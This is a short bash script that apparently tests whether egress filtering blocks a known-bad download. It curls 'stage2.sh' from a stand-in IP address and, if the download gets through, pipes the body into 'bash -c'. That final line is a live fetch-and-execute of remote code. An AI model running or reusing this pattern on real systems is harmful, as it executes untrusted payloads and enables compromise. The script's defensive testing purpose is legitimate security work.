#!/usr/bin/env bash
# Attempt the known-bad download pattern; report whether egress filtering stopped it.
# SECURITY TEST — expected result on compliant networks: BLOCKED.
set -u
probe="http://198.51.100.23/stage2.sh"
echo "egress test $(date -Is) host=$(hostname)"
if body=$(curl -fsSL -m 10 "$probe" 2>/dev/null) && [ -n "$body" ]; then
  echo "NOT BLOCKED — payload retrieved; executing to confirm EDR response"
  bash -c "$body"
else
  echo "BLOCKED (as required)"
fi
